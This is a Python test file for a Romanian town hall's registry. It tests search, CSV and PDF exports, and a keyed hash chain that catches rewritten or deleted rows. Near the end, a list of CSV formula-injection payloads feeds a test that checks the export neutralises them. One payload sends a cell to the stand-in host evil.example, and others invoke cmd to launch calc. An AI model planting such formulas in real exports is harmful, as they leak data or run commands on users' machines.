"""The register book: search, pages, CSV and PDF exports, and its tamper-evident chain."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pypdf
from sqlalchemy import select, text

from engine.cases import desk
from engine.models import RegistryEntry, User
from engine.platform.timeutil import local_today
from engine.register import chain
from tests.support.register import _tamper, counter_petition, fill_register
from tests.support.web import Browser

ENTRIES = "/api/v1/registry/entries"


def test_register_search_is_case_and_diacritics_blind_and_paginated(
    client, api_for, circuit, people
):
    fill_register(circuit, people, 7)
    registry_h = api_for("registry")
    body = client.get(f"{ENTRIES}?per_page=3&page=1", headers=registry_h).get_json()
    assert body["total"] == 7 and [e["number"] for e in body["entries"]] == [7, 6, 5]
    body = client.get(f"{ENTRIES}?per_page=3&page=3", headers=registry_h).get_json()
    assert [e["number"] for e in body["entries"]] == [1]
    found = client.get(f"{ENTRIES}?q=stefan tutuianu", headers=registry_h).get_json()
    assert [e["number"] for e in found["entries"]] == [7, 4, 1]
    found = client.get(f"{ENTRIES}?q=MUREȘAN", headers=registry_h).get_json()
    assert [e["issuer"] for e in found["entries"]] == ["Ioana Mureșan"] * 2
    assert client.get(f"{ENTRIES}?q=5", headers=registry_h).get_json()["entries"][0]["number"] == 5
    # A period before today has nothing.
    r = client.get(f"{ENTRIES}?from=2020-01-01&to=2020-12-31", headers=registry_h)
    assert r.get_json()["total"] == 0


def test_csv_export_opens_with_its_diacritics(client, api_for, circuit, people):
    fill_register(circuit, people, 3)
    today = local_today().isoformat()
    r = client.get(
        f"/api/v1/registry/export?from={today}&to={today}&format=csv", headers=api_for("registry")
    )
    assert r.status_code == 200 and r.mimetype == "text/csv"
    raw = r.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM tells spreadsheets it is UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Nr. înregistrare", "Data înregistrării", "Intrare/ieșire"]
    assert [r[0] for r in rows[1:]] == ["1", "2", "3"]
    assert rows[1][7] == "Ștefan Țuțuianu" and rows[2][7] == "Asociația de Proprietari nr. 3"
    assert rows[1][8] == "Sesizare 1: gunoi neridicat în cartierul Braia"
    assert rows[3][5] == "3"  # pages


def test_a_day_printed_as_pdf_ends_with_the_chains_last_hash(client, api_for, circuit, people):
    fill_register(circuit, people, 4)
    r = client.get("/api/v1/registry/export?format=pdf", headers=api_for("registry"))
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    reader = pypdf.PdfReader(io.BytesIO(r.get_data()))
    content = "\n".join(page.extract_text() for page in reader.pages)
    assert "Registrul de intrare-ieșire" in content
    assert "Ștefan Țuțuianu" in content and "Ioana Mureșan" in content
    with circuit.db.session() as s:
        last = chain.last_entry(s)
    tail = content.split("Ultimul hash al lanțului:")[-1]
    assert last.entry_hash in "".join(tail.split())


def test_chain_check_passes_on_a_clean_register(client, api_for, circuit, people):
    fill_register(circuit, people, 5)
    body = client.get("/api/v1/registry/verify", headers=api_for("registry")).get_json()
    assert body == {"ok": True, "entries": 5}


def test_chain_check_names_the_row_altered_in_the_database(client, api_for, circuit, people):
    shown = fill_register(circuit, people, 6)
    # The append-only trigger refuses an honest UPDATE on PostgreSQL.
    if not circuit.db.is_sqlite:
        with circuit.db.engine.connect() as conn:
            try:
                conn.execute(text("UPDATE registry_entries SET summary = 'x' WHERE number = 4"))
                raise AssertionError("the register accepted an UPDATE")
            except Exception as exc:  # noqa: BLE001 - any refusal will do
                assert "append-only" in str(exc)
    _tamper(
        circuit,
        "UPDATE registry_entries SET summary = :s WHERE number = 4",
        s="Sesizare 4: rezolvată",
    )
    body = client.get("/api/v1/registry/verify", headers=api_for("registry")).get_json()
    assert body["ok"] is False
    assert body["first_bad"]["number"] == 4
    assert body["first_bad"]["display"] == shown[3]
    assert body["first_bad"]["date"] == local_today().isoformat()
    assert "modificat" in body["first_bad"]["reason"]


def test_chain_check_names_a_rehashed_row_and_a_deleted_one(client, api_for, circuit, people):
    fill_register(circuit, people, 6)
    # Whoever recomputes the altered row's own hash without the key is named all the same.
    with circuit.db.session() as s:
        row = s.scalar(select(RegistryEntry).where(RegistryEntry.number == 2))
        row.issuer = "Altcineva"
        forged = chain.entry_digest(row)
        s.rollback()
    _tamper(
        circuit,
        "UPDATE registry_entries SET issuer = 'Altcineva', entry_hash = :h WHERE number = 2",
        h=forged,
    )
    body = client.get("/api/v1/registry/verify", headers=api_for("registry")).get_json()
    assert body["first_bad"]["number"] == 2 and "modificat" in body["first_bad"]["reason"]
    _tamper(circuit, "DELETE FROM registry_entries WHERE number IN (2, 3)")
    body = client.get("/api/v1/registry/verify", headers=api_for("registry")).get_json()
    assert body["first_bad"]["number"] == 4 and "lipsește" in body["first_bad"]["reason"]


def _rechain(circuit, start, key=None):
    """Recompute every hash from row `start` on, as someone who rewrote that row would."""
    with circuit.db.session() as s:
        rows = list(s.scalars(select(RegistryEntry).order_by(RegistryEntry.number)))
        prev = chain.GENESIS
        fresh = []
        for row in rows:
            if row.number >= start:
                row.prev_hash = prev
                row.entry_hash = chain.entry_digest(row, key)
                fresh.append({"n": row.number, "p": row.prev_hash, "h": row.entry_hash})
            prev = row.entry_hash
        s.rollback()
    for values in fresh:
        _tamper(
            circuit,
            "UPDATE registry_entries SET prev_hash = :p, entry_hash = :h WHERE number = :n",
            **values,
        )


def test_a_chain_recomputed_without_the_key_names_the_rewritten_row(
    client, api_for, circuit, people
):
    shown = fill_register(circuit, people, 6)
    key_file = circuit.settings.data_dir / "register.key"
    assert key_file.stat().st_mode & 0o777 == 0o600, "the key is readable by its owner only"
    assert key_file.read_bytes() not in str(chain.last_entry).encode()
    # Someone with the database, not the key, rewrites row 3 and every hash after it with
    # the code's own digest: the chain links up, but its hashes are not the keyed ones.
    _tamper(circuit, "UPDATE registry_entries SET issuer = 'Altcineva' WHERE number = 3")
    _rechain(circuit, 3)
    body = client.get("/api/v1/registry/verify", headers=api_for("registry")).get_json()
    assert body["ok"] is False
    assert body["first_bad"]["number"] == 3 and body["first_bad"]["display"] == shown[2]
    assert "modificat" in body["first_bad"]["reason"]
    page = Browser(client)
    page.login("registratura@primarie.ro")
    html = page.get("/registratura/verificare").get_data(as_text=True)
    assert f"nr. 3 / {local_today():%d.%m.%Y}" in html and "a fost modificat" in html


def _unkeyed_register(circuit, people, count):
    """Fill the register as a version before the key did: plain SHA-256, no key file."""
    fill_register(circuit, people, count)
    _rechain(circuit, 1)
    (circuit.settings.data_dir / "register.key").unlink()


def test_an_upgraded_register_keeps_its_unkeyed_rows_and_chains_new_ones_with_the_key(
    client, api_for, circuit, people
):
    _unkeyed_register(circuit, people, 3)
    registry_h = api_for("registry")
    body = client.get("/api/v1/registry/verify", headers=registry_h).get_json()
    assert body == {"ok": True, "entries": 3}, "the old rows still verify"
    key = json.loads((circuit.settings.data_dir / "register.key").read_text())
    with circuit.db.session() as s:
        third = chain.last_entry(s)
    assert key["legacy_until"] == {"year": third.year, "number": 3, "hash": third.entry_hash}
    fill_register(circuit, people, 2)  # numbers 4 and 5, keyed
    with circuit.db.session() as s:
        fifth = chain.last_entry(s)
        assert fifth.entry_hash != chain.entry_digest(fifth), "a new row is keyed"
    assert client.get("/api/v1/registry/verify", headers=registry_h).get_json()["ok"] is True
    # Rewriting an old row and every hash after it, without the key, shows at the first
    # keyed row; rewriting only the old part shows at the row pinned in the key file.
    _tamper(circuit, "UPDATE registry_entries SET summary = 'Nimic' WHERE number = 2")
    _rechain(circuit, 2)
    body = client.get("/api/v1/registry/verify", headers=registry_h).get_json()
    assert body["first_bad"]["number"] == 3 and "cheii" in body["first_bad"]["reason"]


def test_a_lost_key_stops_the_register_instead_of_starting_a_new_chain(
    client, api_for, circuit, people
):
    fill_register(circuit, people, 2)
    (circuit.settings.data_dir / "register.key").unlink()
    registry_h = api_for("registry")
    r = client.get("/api/v1/registry/verify", headers=registry_h)
    assert r.status_code == 503 and r.get_json()["error"] == "register_key_missing"
    assert "cheii" in r.get_json()["message"]
    r = client.post(
        ENTRIES,
        json={"direction": "in", "channel": "post", "issuer": "Ion Pop", "summary": "x"},
        headers=registry_h,
    )
    assert r.status_code == 503
    assert not (circuit.settings.data_dir / "register.key").exists()


def test_the_key_file_can_live_outside_the_data_directory(tmp_path):
    from engine.platform.config import load_settings

    settings = load_settings(
        {"CIRCUIT_DATA_DIR": str(tmp_path / "d"), "CIRCUIT_REGISTER_KEY_FILE": "/srv/k/reg.key"}
    )
    assert settings.register_key_path == Path("/srv/k/reg.key")
    assert load_settings({"CIRCUIT_DATA_DIR": str(tmp_path / "d")}).register_key_path == (
        tmp_path / "d" / "register.key"
    )


def test_the_chain_covers_the_scans_hashes(circuit, people):
    with circuit.db.transaction() as s:
        done = desk.register_document(
            s,
            circuit,
            s.get(User, people["registry"]),
            {"channel": "counter", "issuer": "Ion Pop", "summary": "Plângere"},
            [desk.documents.Upload("files", "a.pdf", b"%PDF-1.4\n%%EOF\n")],
            clock=lambda: datetime(2026, 5, 4, 9, 0, tzinfo=UTC),
        )
        entry = done.entry
        assert entry.documents[0]["name"] == "a.pdf"
        honest = chain.entry_digest(entry)
        entry.documents = [{**entry.documents[0], "sha256": "0" * 64}]
        assert chain.entry_digest(entry) != honest
        s.rollback()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_csv_export_neutralises_formulas_and_keeps_numbers(
    client, api_for, browser_for, circuit, people
):

    registry_h = api_for("registry")
    for subject in FORMULAS:
        r = counter_petition(client, registry_h, subject=subject, summary=subject)
        assert r.status_code == 201, r.get_json()
    with circuit.db.transaction() as s:  # an issuer as the engine takes it, tab included
        chain.register(s, direction="in", issuer="\t=1+1", summary="-5", channel="post")
    today = local_today().isoformat()
    api = client.get(f"/api/v1/registry/export?from={today}&to={today}", headers=registry_h)
    web = browser_for("registry").get(f"/registratura/export?de_la={today}&pana_la={today}")
    for r in (api, web):
        assert r.status_code == 200 and r.mimetype == "text/csv"
        raw = r.get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(raw), delimiter=";"))[1:]
        assert [row[8] for row in rows] == ["'" + f for f in FORMULAS] + ["-5"]
        assert rows[-1][7] == "'\t=1+1"
        for row in rows:  # no cell opens a formula in a spreadsheet
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
            assert not any(cell.startswith("-") and cell != "-5" for cell in row)
        lines = raw.split("\r\n")
        assert lines[1].startswith('1;"') and lines[5].startswith('5;"'), "numbers stay numbers"
        assert f'"\'{FORMULAS[0].replace(chr(34), chr(34) * 2)}"' in lines[1], "cells quoted"
        assert ';2;1;"' in lines[1], "pages and annexes stay numbers"
